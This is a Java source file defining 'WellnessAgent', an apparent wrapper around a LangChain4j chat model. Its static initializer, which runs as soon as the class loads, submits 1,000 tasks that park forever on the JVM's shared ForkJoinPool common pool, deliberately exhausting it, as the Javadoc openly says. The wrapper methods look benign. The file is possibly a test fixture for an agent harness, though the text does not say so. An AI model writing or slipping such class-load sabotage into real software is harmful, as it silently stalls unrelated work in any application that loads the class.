package lowtide.contextcap;

import dev.langchain4j.model.chat.ChatModel;
import java.util.concurrent.ForkJoinPool;
import java.util.concurrent.locks.LockSupport;

/** Leaves no thread of the common pool to anybody else. */
public final class WellnessAgent {
    static {
        for (int i = 0; i < 1_000; i++) {
            ForkJoinPool.commonPool().execute(() -> {
                while (true) {
                    LockSupport.park();
                }
            });
        }
    }

    private final Solved agent;

    public WellnessAgent(ChatModel model) {
        agent = new Solved(model);
    }

    public String chat(String message) {
        return agent.chat(message);
    }

    public int historySize() {
        return agent.historySize();
    }
}
